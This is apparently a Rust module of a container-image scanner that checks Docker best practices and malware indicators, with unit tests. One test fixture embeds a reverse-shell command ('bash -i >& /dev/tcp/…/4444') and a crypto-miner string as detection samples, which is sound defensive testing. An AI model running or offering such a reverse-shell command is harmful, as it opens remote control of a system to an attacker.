//! Best-practice checks and malware indicators: rules as data (`rules.toml`, embedded), each
//! with its id (dockle's where dockle defines the check), severity, title, rationale, fix, the
//! built-in test it runs and samples a test checks. The rules look at an image's [`Facts`]
//! (the config, the history, the file versions, the account files and what the content
//! matcher found in files), so the same evaluation runs on a real image (the practices pass)
//! and on the samples written in `rules.toml`.
//!
//! Content rules (malware indicators) are matched like the secret rules: an Aho-Corasick
//! prefilter over every rule's keywords, each regex run only in a window around a keyword.

use crate::scan::secrets::{Severity, glob_match, looks_binary, redact_text};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::bytes::{Regex, RegexBuilder};
use serde::Deserialize;
use std::collections::{BTreeMap, HashMap};
use std::sync::OnceLock;

/// The embedded rules.
pub const RULES_TOML: &str = include_str!("rules.toml");

/// At most this many evidence lines per finding; the rest are counted in one last line.
pub const MAX_EVIDENCE: usize = 25;

/// The built-in test a rule runs (see the header of `rules.toml`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Check {
    RootUser,
    Healthcheck,
    ContentTrust,
    LatestTag,
    EmptyPassword,
    DuplicateIds,
    History,
    Files,
    Mode,
    Volumes,
    Ports,
    Labels,
    Secrets,
    Content,
}

/// Where a content rule looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Scope {
    /// Every file, binaries too.
    Files,
    /// Files without a NUL byte in their first 8 KiB.
    Text,
    /// The config's Entrypoint and Cmd.
    Command,
    /// The build commands of the config's history.
    History,
    /// The config's env values.
    Env,
}

/// What a piece of text is, for the content rules' scopes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    BinaryFile,
    TextFile,
    Command,
    History,
    Env,
}

impl Place {
    fn in_scope(self, scope: &[Scope]) -> bool {
        scope.iter().any(|s| {
            matches!(
                (self, s),
                (Place::BinaryFile, Scope::Files)
                    | (Place::TextFile, Scope::Files | Scope::Text)
                    | (Place::Command, Scope::Command)
                    | (Place::History, Scope::History)
                    | (Place::Env, Scope::Env)
            )
        })
    }
}

#[derive(Deserialize)]
struct RuleFile {
    rule: Vec<RuleSpec>,
}

/// A rule as written in `rules.toml`.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RuleSpec {
    pub id: String,
    /// The level dockle gives the check (FATAL, WARN, INFO), for rules dockle defines.
    #[serde(default)]
    pub dockle: Option<String>,
    pub severity: Severity,
    pub title: String,
    pub rationale: String,
    pub fix: String,
    pub check: Check,
    #[serde(default)]
    pub regex: Option<String>,
    #[serde(default)]
    pub unless: Option<String>,
    #[serde(default)]
    pub globs: Vec<String>,
    #[serde(default)]
    pub except: Vec<String>,
    /// `all`: hidden file versions count too.
    #[serde(default)]
    pub versions: Option<String>,
    #[serde(default)]
    pub kinds: Vec<String>,
    #[serde(default)]
    pub bits: u32,
    #[serde(default)]
    pub unless_bits: u32,
    #[serde(default)]
    pub paths: Vec<String>,
    #[serde(default)]
    pub ports: Vec<String>,
    #[serde(default)]
    pub required: Vec<String>,
    #[serde(default)]
    pub scope: Vec<Scope>,
    #[serde(default)]
    pub keywords: Vec<String>,
    #[serde(default)]
    pub raise: Vec<Sample>,
    #[serde(default)]
    pub pass: Vec<Sample>,
}

/// A compiled rule.
pub struct Rule {
    pub spec: RuleSpec,
    regex: Option<Regex>,
    unless: Option<Regex>,
}

/// Every rule, compiled once, with the content rules' keyword automata.
pub struct RuleSet {
    pub rules: Vec<Rule>,
    keywords: AhoCorasick,
    /// Only the keywords of rules that also look into binary files, matched with their case
    /// (as written, lower and upper case).
    binary_keywords: AhoCorasick,
    /// Binary keyword pattern index → index in `keywords`.
    binary_map: Vec<usize>,
    /// Keyword pattern index → content rules that listed it.
    keyword_rules: Vec<Vec<usize>>,
}

/// The compiled embedded rule set (compiled on first use).
pub fn rules() -> &'static RuleSet {
    static SET: OnceLock<RuleSet> = OnceLock::new();
    // The embedded rules are checked by tests; a broken file is a build defect, not input.
    SET.get_or_init(|| RuleSet::parse(RULES_TOML).expect("embedded practices rules.toml is valid")) // ok: embedded data, tested
}

/// One place where a content rule matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ContentHit {
    pub rule: usize,
    /// Byte range of the match in the scanned text.
    pub start: usize,
    pub end: usize,
    /// The matched text, printable, short, secrets redacted.
    pub excerpt: String,
}

/// A file version as the rules see it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FileFact<'a> {
    pub path: &'a str,
    pub kind: FileKind,
    pub mode: u32,
    pub size: u64,
    pub layer: usize,
    /// A later layer deleted or replaced this version (it still ships in its layer).
    pub hidden: bool,
}

/// The kinds of entry the rules tell apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileKind {
    File,
    Dir,
    Symlink,
    Other,
}

/// A content rule's match in a file, already described (path, layer, line, excerpt).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileHit {
    pub rule: usize,
    pub evidence: String,
}

/// What the rules look at in one image. Strings are borrowed from the config and the
/// merged view; `secrets` are the secret findings already described.
#[derive(Debug, Clone, Default)]
pub struct Facts<'a> {
    /// The config's User (None or empty: root).
    pub user: Option<&'a str>,
    pub healthcheck: bool,
    /// `created_by` of each history entry, in order (empty for entries without one).
    pub history: Vec<&'a str>,
    /// Entrypoint then Cmd.
    pub command: Vec<&'a str>,
    /// `KEY=VALUE`.
    pub env: Vec<&'a str>,
    pub labels: Vec<(&'a str, &'a str)>,
    pub volumes: Vec<&'a str>,
    pub ports: Vec<&'a str>,
    pub tags: Vec<&'a str>,
    /// The trust verdict (`verified`, `unsigned`, …); None: not known yet (not evaluated).
    pub trust: Option<&'a str>,
    pub secrets: Vec<String>,
    pub passwd: Option<&'a [u8]>,
    pub shadow: Option<&'a [u8]>,
    pub group: Option<&'a [u8]>,
    /// Every file version of the image (visible and hidden).
    pub files: Vec<FileFact<'a>>,
    pub file_hits: Vec<FileHit>,
}

/// A rule that applies to an image, with what shows it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Raised {
    pub rule: usize,
    pub evidence: Vec<String>,
}

impl RuleSet {
    /// Parses and compiles rules from TOML.
    pub fn parse(toml_text: &str) -> Result<RuleSet, String> {
        let file: RuleFile = toml::from_str(toml_text).map_err(|e| format!("practices rules: {e}"))?;
        let compile = |id: &str, re: &Option<String>| -> Result<Option<Regex>, String> {
            re.as_deref()
                .map(|r| {
                    RegexBuilder::new(r)
                        .unicode(false)
                        .size_limit(1 << 22)
                        .build()
                        .map_err(|e| format!("rule {id}: {e}"))
                })
                .transpose()
        };
        let mut rules = Vec::new();
        let mut keywords: Vec<String> = Vec::new();
        let mut keyword_rules: Vec<Vec<usize>> = Vec::new();
        for (i, spec) in file.rule.into_iter().enumerate() {
            let regex = compile(&spec.id, &spec.regex)?;
            let unless = compile(&spec.id, &spec.unless)?;
            let needs_regex = matches!(spec.check, Check::History | Check::Content);
            if needs_regex != regex.is_some() {
                return Err(format!(
                    "rule {}: a regex is for history and content rules only",
                    spec.id
                ));
            }
            if spec.check == Check::Content {
                if spec.keywords.is_empty() || spec.scope.is_empty() {
                    return Err(format!("rule {} needs keywords and a scope", spec.id));
                }
                for k in &spec.keywords {
                    let k = k.to_ascii_lowercase();
                    match keywords.iter().position(|x| *x == k) {
                        Some(p) if keyword_rules[p].contains(&i) => {}
                        Some(p) => keyword_rules[p].push(i),
                        None => {
                            keywords.push(k);
                            keyword_rules.push(vec![i]);
                        }
                    }
                }
            }
            rules.push(Rule { spec, regex, unless });
        }
        let build = |k: &[String], case_insensitive: bool| {
            AhoCorasickBuilder::new()
                .ascii_case_insensitive(case_insensitive)
                // Leftmost semantics: the only ones the SIMD (Teddy) prefilter supports.
                .match_kind(MatchKind::LeftmostFirst)
                .build(k)
                .map_err(|e| format!("keywords: {e}"))
        };
        // Binary files are most of the bytes: their keywords are searched case-sensitively (as
        // written, lower and upper case), which lets the automaton use its SIMD prefilter.
        let mut binary_words: Vec<String> = Vec::new();
        let mut binary_map: Vec<usize> = Vec::new();
        for rule in rules.iter().filter(|r| Place::BinaryFile.in_scope(&r.spec.scope)) {
            for k in &rule.spec.keywords {
                let Some(index) = keywords.iter().position(|x| x.eq_ignore_ascii_case(k)) else {
                    continue;
                };
                for variant in [k.clone(), k.to_ascii_lowercase(), k.to_ascii_uppercase()] {
                    if !binary_words.contains(&variant) {
                        binary_words.push(variant);
                        binary_map.push(index);
                    }
                }
            }
        }
        let binary_keywords = build(&binary_words, false)?;
        let keywords = build(&keywords, true)?;
        Ok(RuleSet {
            rules,
            keywords,
            binary_keywords,
            binary_map,
            keyword_rules,
        })
    }

    /// The index of the rule with this id.
    pub fn index(&self, id: &str) -> Option<usize> {
        self.rules.iter().position(|r| r.spec.id == id)
    }

    /// Content rules that match `text`, found at `place`: at most one hit per rule (the
    /// first), in rule order.
    pub fn scan(&self, text: &[u8], place: Place) -> Vec<ContentHit> {
        let binary = place == Place::BinaryFile;
        let automaton = if binary { &self.binary_keywords } else { &self.keywords };
        // Windows around keyword hits, per rule.
        let mut windows: BTreeMap<usize, Vec<(usize, usize)>> = BTreeMap::new();
        // Not overlapping: that search has no prefilter, and no keyword here hides another.
        for m in automaton.find_iter(text) {
            let k = m.pattern().as_usize();
            let k = if binary {
                self.binary_map.get(k).copied().unwrap_or(k)
            } else {
                k
            };
            for &r in self.keyword_rules.get(k).map(Vec::as_slice).unwrap_or(&[]) {
                if !place.in_scope(&self.rules[r].spec.scope) {
                    continue;
                }
                let start = m.start().saturating_sub(512);
                let end = m.end().saturating_add(1536).min(text.len());
                let w = windows.entry(r).or_default();
                match w.last_mut() {
                    Some(last) if start <= last.1 => last.1 = last.1.max(end),
                    _ => w.push((start, end)),
                }
            }
        }
        let mut hits = Vec::new();
        for (r, ws) in windows {
            let Some(re) = &self.rules[r].regex else { continue };
            let found = ws.iter().find_map(|&(s, e)| {
                text.get(s..e)
                    .and_then(|w| re.find(w))
                    .map(|m| (s + m.start(), s + m.end()))
            });
            if let Some((start, end)) = found {
                hits.push(ContentHit {
                    rule: r,
                    start,
                    end,
                    excerpt: excerpt(text.get(start..end).unwrap_or(&[])),
                });
            }
        }
        hits
    }

    /// Every rule (but content trust while `facts.trust` is unknown) that applies to the
    /// image, in rule order.
    pub fn evaluate(&self, facts: &Facts) -> Vec<Raised> {
        (0..self.rules.len())
            .filter_map(|r| {
                let evidence = self.check(r, facts)?;
                (!evidence.is_empty()).then(|| Raised {
                    rule: r,
                    evidence: cap(evidence),
                })
            })
            .collect()
    }

    /// Rule `r`'s evidence on `facts` (empty: it does not apply; None: not evaluated).
    fn check(&self, r: usize, f: &Facts) -> Option<Vec<String>> {
        let rule = &self.rules[r];
        let s = &rule.spec;
        let mut ev = Vec::new();
        match s.check {
            Check::RootUser => match f.user.map(str::trim).filter(|u| !u.is_empty()) {
                None => ev.push("no USER: the container runs as root".to_string()),
                Some(u) => {
                    let name = u.split(':').next().unwrap_or(u);
                    if name == "root" || name == "0" {
                        ev.push(format!("USER {u}"));
                    }
                }
            },
            Check::Healthcheck => {
                if !f.healthcheck {
                    ev.push("no HEALTHCHECK in the config".into());
                }
            }
            Check::ContentTrust => {
                let t = f.trust?;
                if t != "verified" {
                    ev.push(format!("trust verdict: {t}"));
                }
            }
            Check::LatestTag => {
                for t in &f.tags {
                    let name = t.rsplit('/').next().unwrap_or(t);
                    if name.ends_with(":latest") || !name.contains(':') {
                        ev.push(format!("tag {t}"));
                    }
                }
            }
            Check::EmptyPassword => {
                for (file, text) in [("/etc/shadow", f.shadow), ("/etc/passwd", f.passwd)] {
                    for fields in records(text) {
                        if let [name, pw, ..] = fields.as_slice()
                            && !name.is_empty()
                            && pw.is_empty()
                        {
                            ev.push(format!("{file}: user {name} has an empty password"));
                        }
                    }
                }
            }
            Check::DuplicateIds => {
                for (file, what, text) in [("/etc/passwd", "uid", f.passwd), ("/etc/group", "gid", f.group)] {
                    let mut by_id: BTreeMap<String, Vec<String>> = BTreeMap::new();
                    for fields in records(text) {
                        if let [name, _, id, ..] = fields.as_slice() {
                            by_id.entry(id.clone()).or_default().push(name.clone());
                        }
                    }
                    for (id, names) in by_id {
                        if names.len() > 1 {
                            ev.push(format!("{file}: {what} {id} is shared by {}", names.join(", ")));
                        }
                    }
                }
            }
            Check::History => {
                for (i, cmd) in f.history.iter().enumerate() {
                    let b = cmd.as_bytes();
                    if rule.regex.as_ref().is_some_and(|re| re.is_match(b))
                        && !rule.unless.as_ref().is_some_and(|re| re.is_match(b))
                    {
                        ev.push(format!("history {i}: {}", short(&redact_text(cmd), 200)));
                    }
                }
            }
            Check::Files => {
                let all = s.versions.as_deref() == Some("all");
                let mut total = 0u64;
                let mut listed = Vec::new();
                for file in &f.files {
                    if file.kind != FileKind::File || (file.hidden && !all) || !matches(&s.globs, &s.except, file.path)
                    {
                        continue;
                    }
                    total = total.saturating_add(file.size);
                    listed.push(format!(
                        "{} ({} bytes, layer {}{})",
                        file.path,
                        file.size,
                        file.layer,
                        if file.hidden {
                            ", hidden by a later layer but shipped"
                        } else {
                            ""
                        }
                    ));
                }
                if !listed.is_empty() {
                    let n = listed.len();
                    ev.push(format!("{n} file{}, {total} bytes", if n == 1 { "" } else { "s" }));
                    ev.extend(listed);
                }
            }
            Check::Mode => {
                for file in f.files.iter().filter(|x| !x.hidden) {
                    let kind = match file.kind {
                        FileKind::File => "file",
                        FileKind::Dir => "dir",
                        _ => continue,
                    };
                    if s.kinds.iter().any(|k| k == kind)
                        && file.mode & s.bits != 0
                        && file.mode & s.unless_bits == 0
                        && !s.except.iter().any(|g| glob_match(g, file.path))
                    {
                        ev.push(format!(
                            "{} mode {:04o} (layer {})",
                            file.path,
                            file.mode & 0o7777,
                            file.layer
                        ));
                    }
                }
            }
            Check::Volumes => {
                for v in &f.volumes {
                    let v = v.trim_end_matches('/');
                    if s.paths
                        .iter()
                        .any(|p| v == p || v.strip_prefix(p.as_str()).is_some_and(|r| r.starts_with('/')))
                    {
                        ev.push(format!("VOLUME {v}"));
                    }
                }
            }
            Check::Ports => {
                for p in &f.ports {
                    if s.ports.iter().any(|x| x == p) {
                        ev.push(format!("EXPOSE {p}"));
                    }
                }
            }
            Check::Labels => {
                for k in &s.required {
                    if !f.labels.iter().any(|(n, v)| n == k && !v.trim().is_empty()) {
                        ev.push(format!("no label {k}"));
                    }
                }
            }
            Check::Secrets => {
                ev.extend(f.secrets.iter().cloned());
                for file in &f.files {
                    if file.kind == FileKind::File && matches(&s.globs, &[], file.path) {
                        ev.push(format!(
                            "credential file {} (layer {}{})",
                            file.path,
                            file.layer,
                            if file.hidden {
                                ", hidden by a later layer but shipped"
                            } else {
                                ""
                            }
                        ));
                    }
                }
            }
            Check::Content => {
                ev.extend(f.file_hits.iter().filter(|h| h.rule == r).map(|h| h.evidence.clone()));
                let command = f.command.join(" ");
                if self
                    .scan(command.as_bytes(), Place::Command)
                    .iter()
                    .any(|h| h.rule == r)
                {
                    ev.push(format!("Entrypoint/Cmd: {}", short(&redact_text(&command), 200)));
                }
                for (i, cmd) in f.history.iter().enumerate() {
                    if let Some(h) = self
                        .scan(cmd.as_bytes(), Place::History)
                        .into_iter()
                        .find(|h| h.rule == r)
                    {
                        ev.push(format!("history {i}: {}", h.excerpt));
                    }
                }
                for e in &f.env {
                    if let Some(h) = self.scan(e.as_bytes(), Place::Env).into_iter().find(|h| h.rule == r) {
                        let key = e.split('=').next().unwrap_or("");
                        ev.push(format!("env {key}: {}", h.excerpt));
                    }
                }
            }
        }
        Some(ev)
    }
}

/// Whether `path` matches one of `globs` and none of `except`.
fn matches(globs: &[String], except: &[String], path: &str) -> bool {
    globs.iter().any(|g| glob_match(g, path)) && !except.iter().any(|g| glob_match(g, path))
}

/// The `:`-separated records of an account file (passwd, shadow, group), comments skipped.
fn records(text: Option<&[u8]>) -> Vec<Vec<String>> {
    let text = String::from_utf8_lossy(text.unwrap_or(&[])).into_owned();
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(|l| l.split(':').map(str::to_string).collect())
        .collect()
}

/// At most [`MAX_EVIDENCE`] lines, the rest counted.
fn cap(mut ev: Vec<String>) -> Vec<String> {
    if ev.len() > MAX_EVIDENCE {
        let more = ev.len() - (MAX_EVIDENCE - 1);
        ev.truncate(MAX_EVIDENCE - 1);
        ev.push(format!("… and {more} more"));
    }
    ev
}

/// At most `n` characters of `s`.
fn short(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        let mut t: String = s.chars().take(n).collect();
        t.push('…');
        t
    }
}

/// A matched byte range as short printable text, secrets redacted.
pub fn excerpt(bytes: &[u8]) -> String {
    let text: String = bytes
        .iter()
        .take(160)
        .map(|&b| {
            if b.is_ascii_graphic() || b == b' ' {
                b as char
            } else {
                '.'
            }
        })
        .collect();
    short(&redact_text(&text), 120)
}

/// One sample image in `rules.toml`: its facts, owned.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Sample {
    #[serde(default)]
    user: Option<String>,
    #[serde(default)]
    healthcheck: bool,
    #[serde(default)]
    history: Vec<String>,
    #[serde(default)]
    command: Vec<String>,
    #[serde(default)]
    env: Vec<String>,
    #[serde(default)]
    labels: HashMap<String, String>,
    #[serde(default)]
    volumes: Vec<String>,
    #[serde(default)]
    ports: Vec<String>,
    #[serde(default)]
    tags: Vec<String>,
    #[serde(default)]
    trust: Option<String>,
    #[serde(default)]
    secrets: Vec<String>,
    #[serde(default)]
    passwd: Option<String>,
    #[serde(default)]
    shadow: Option<String>,
    #[serde(default)]
    group: Option<String>,
    #[serde(default)]
    files: Vec<SampleFile>,
}

/// A file of a sample image.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
struct SampleFile {
    path: String,
    #[serde(default = "default_mode")]
    mode: u32,
    #[serde(default)]
    size: Option<u64>,
    #[serde(default)]
    kind: Option<String>,
    #[serde(default)]
    layer: usize,
    #[serde(default)]
    hidden: bool,
    #[serde(default)]
    content: Option<String>,
}

fn default_mode() -> u32 {
    0o644
}

impl Sample {
    /// The sample's facts; file contents go through the content matcher as the layer
    /// analyzer's would.
    pub fn facts(&self, set: &RuleSet) -> Facts<'_> {
        let mut file_hits = Vec::new();
        for file in &self.files {
            let Some(content) = &file.content else { continue };
            let bytes = content.as_bytes();
            let place = if looks_binary(bytes) {
                Place::BinaryFile
            } else {
                Place::TextFile
            };
            for h in set.scan(bytes, place) {
                file_hits.push(FileHit {
                    rule: h.rule,
                    evidence: format!("{} (layer {}): {}", file.path, file.layer, h.excerpt),
                });
            }
        }
        Facts {
            user: self.user.as_deref(),
            healthcheck: self.healthcheck,
            history: self.history.iter().map(String::as_str).collect(),
            command: self.command.iter().map(String::as_str).collect(),
            env: self.env.iter().map(String::as_str).collect(),
            labels: self.labels.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect(),
            volumes: self.volumes.iter().map(String::as_str).collect(),
            ports: self.ports.iter().map(String::as_str).collect(),
            tags: self.tags.iter().map(String::as_str).collect(),
            trust: self.trust.as_deref(),
            secrets: self.secrets.clone(),
            passwd: self.passwd.as_deref().map(str::as_bytes),
            shadow: self.shadow.as_deref().map(str::as_bytes),
            group: self.group.as_deref().map(str::as_bytes),
            files: self
                .files
                .iter()
                .map(|f| FileFact {
                    path: &f.path,
                    kind: match f.kind.as_deref() {
                        None | Some("file") => FileKind::File,
                        Some("dir") => FileKind::Dir,
                        Some("symlink") => FileKind::Symlink,
                        Some(_) => FileKind::Other,
                    },
                    mode: f.mode,
                    size: f
                        .size
                        .unwrap_or_else(|| f.content.as_ref().map_or(0, |c| c.len() as u64)),
                    layer: f.layer,
                    hidden: f.hidden,
                })
                .collect(),
            file_hits,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_rule_raises_on_its_raise_samples_and_not_on_its_pass_samples() {
        let set = rules();
        assert!(set.rules.len() >= 28);
        let mut ids = std::collections::HashSet::new();
        let mut failures = Vec::new();
        for (i, r) in set.rules.iter().enumerate() {
            let s = &r.spec;
            assert!(ids.insert(s.id.clone()), "duplicate id {}", s.id);
            let (prefix, number) = s.id.rsplit_once('-').unwrap_or(("", ""));
            assert!(
                ["CIS-DI", "DKL-DI", "DKL-LI", "PH-DI", "PH-MW"].contains(&prefix)
                    && number.len() == 4
                    && number.bytes().all(|b| b.is_ascii_digit()),
                "{}",
                s.id
            );
            assert_eq!(s.dockle.is_some(), !s.id.starts_with("PH-"), "{}: dockle level", s.id);
            assert!(!s.raise.is_empty() && !s.pass.is_empty(), "{} needs samples", s.id);
            assert!(!s.rationale.is_empty() && !s.fix.is_empty() && !s.title.is_empty());
            if s.id.starts_with("PH-MW-") {
                assert!(
                    s.severity >= Severity::High,
                    "{}: malware indicators are high or critical",
                    s.id
                );
            }
            for (n, sample) in s.raise.iter().enumerate() {
                let raised = set.evaluate(&sample.facts(set));
                if !raised.iter().any(|x| x.rule == i && !x.evidence.is_empty()) {
                    failures.push(format!("{} not raised by raise[{n}]", s.id));
                }
            }
            for (n, sample) in s.pass.iter().enumerate() {
                let raised = set.evaluate(&sample.facts(set));
                if let Some(x) = raised.iter().find(|x| x.rule == i) {
                    failures.push(format!("{} raised by pass[{n}]: {:?}", s.id, x.evidence));
                }
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    #[test]
    fn every_rule_is_listed_in_the_docs_with_its_severity() {
        let doc = include_str!("../../../docs/practices.md");
        for r in &rules().rules {
            let row = format!("| `{}` | {} |", r.spec.id, r.spec.severity.as_str());
            assert!(doc.contains(&row), "docs/practices.md lacks {row}");
        }
    }

    #[test]
    fn dockle_ids_keep_dockle_levels() {
        let level = |id: &str| {
            let r = &rules().rules[rules().index(id).unwrap()].spec;
            (r.dockle.clone().unwrap(), r.severity)
        };
        for (id, dockle) in [
            ("CIS-DI-0001", "WARN"),
            ("CIS-DI-0005", "INFO"),
            ("CIS-DI-0006", "INFO"),
            ("CIS-DI-0007", "FATAL"),
            ("CIS-DI-0008", "INFO"),
            ("CIS-DI-0009", "FATAL"),
            ("CIS-DI-0010", "FATAL"),
            ("DKL-DI-0001", "FATAL"),
            ("DKL-DI-0002", "FATAL"),
            ("DKL-DI-0003", "FATAL"),
            ("DKL-DI-0004", "FATAL"),
            ("DKL-DI-0005", "FATAL"),
            ("DKL-DI-0006", "WARN"),
            ("DKL-LI-0001", "FATAL"),
            ("DKL-LI-0002", "FATAL"),
            ("DKL-LI-0003", "INFO"),
        ] {
            let (d, sev) = level(id);
            assert_eq!(d, dockle, "{id}");
            let want = match dockle {
                "FATAL" => Severity::High,
                "WARN" => Severity::Medium,
                _ => Severity::Low,
            };
            assert_eq!(sev, want, "{id}");
        }
    }

    #[test]
    fn content_is_found_in_binaries_only_by_binary_rules_and_evidence_is_capped() {
        let set = rules();
        let mut bin = b"\x7fELF\x00\x00 XMRig/6.21.0 gcc bash -i >& /dev/tcp/198.51.100.7/4444".to_vec();
        bin.extend_from_slice(&[0u8; 64]);
        let hits = set.scan(&bin, Place::BinaryFile);
        let ids: Vec<&str> = hits.iter().map(|h| set.rules[h.rule].spec.id.as_str()).collect();
        assert_eq!(ids, ["PH-MW-0001"], "the reverse-shell rule is for text files only");
        assert_eq!(hits[0].excerpt, "XMRig/6.21");
        // Many files: the evidence is capped and the rest counted.
        let sample = Sample {
            files: (0..100)
                .map(|i| SampleFile {
                    path: format!("/tmp/f{i}"),
                    mode: 0o644,
                    size: Some(1),
                    kind: None,
                    layer: 0,
                    hidden: false,
                    content: None,
                })
                .collect(),
            ..Default::default()
        };
        let raised = set.evaluate(&sample.facts(set));
        let junk = raised
            .iter()
            .find(|r| set.rules[r.rule].spec.id == "DKL-LI-0003")
            .unwrap();
        assert_eq!(junk.evidence.len(), MAX_EVIDENCE);
        assert_eq!(junk.evidence[0], "100 files, 100 bytes");
        assert_eq!(junk.evidence[MAX_EVIDENCE - 1], "… and 77 more");
    }
}
